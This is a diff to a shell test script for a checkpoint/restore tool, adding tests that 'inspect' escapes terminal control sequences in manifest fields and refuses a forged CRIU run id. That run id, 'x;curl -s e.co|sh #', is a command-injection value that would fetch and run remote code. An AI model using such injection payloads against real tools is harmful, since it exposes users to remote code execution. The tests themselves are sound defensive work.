@@ -129,6 +129,32 @@ wait_count "$T/badname.out" $((LAST + 3))
 kill -TERM "$LAST_SUPERVISOR"; wait_exit "$LAST_SUPERVISOR"; wait_gone "$PID"
 pass "a manifest's job name cusnap does not accept: shown escaped, restorable with --name only"
 
+# The rest of a hand-edited manifest's text inspect prints (a GPU UUID of
+# the device memory a restore needs, a phase name) is shown escaped too:
+# before, inspect wrote the escape bytes raw to the terminal.
+edit_manifest badtext '
+cuda["gpu_memory"] = {"GPU-\x1b[2Jgone": 1024}
+m["phases"][0]["name"] = "dump\x1b[31mred"'
+"$CUSNAP" inspect "$T/badtext" >"$T/badtext.txt" 2>&1 || true
+grep -q "needs:" "$T/badtext.txt" || fail "inspect of badtext: $(cat "$T/badtext.txt")"
+grep -q "$(printf '\033')" "$T/badtext.txt" &&
+  fail "inspect wrote an escape byte raw: $(cat -v "$T/badtext.txt")"
+grep -qF 'needs:    1.0 KiB of device memory on GPU-\x1b[2Jgone' "$T/badtext.txt" ||
+  fail "inspect does not show the GPU UUID escaped: $(cat "$T/badtext.txt")"
+grep -qF '    dump\x1b[31mred ' "$T/badtext.txt" ||
+  fail "inspect does not show the phase name escaped: $(cat "$T/badtext.txt")"
+# A CRIU run id that is not one (a UUID) is refused: inspect would put it in
+# the nft command it gives to paste (before, "nft delete table inet CRIU-x;curl
+# -s e.co|sh #" for this one).
+edit_manifest badrunid '
+m["criu"]["run_id"] = "x;curl -s e.co|sh #"
+m["criu"]["network_lock"] = "nftables"
+m["tcp_established"] = True'
+expect_refused 5 "criu.run_id is not a CRIU run id" "$CUSNAP" inspect "$T/badrunid"
+grep -q "curl" "$T/cmd.out" && fail "inspect of badrunid printed the run id: $(cat "$T/cmd.out")"
+expect_bad badrunid "criu.run_id is not a CRIU run id"
+pass "a manifest's GPU UUIDs and phase names shown escaped; a run id that is not CRIU's refused"
+
 # The original runtime directory is gone; an intact copy restores.
 [ ! -e "$CUSNAP_RUNTIME_BASE/cj" ] || fail "the stopped job's runtime directory is still there"
 
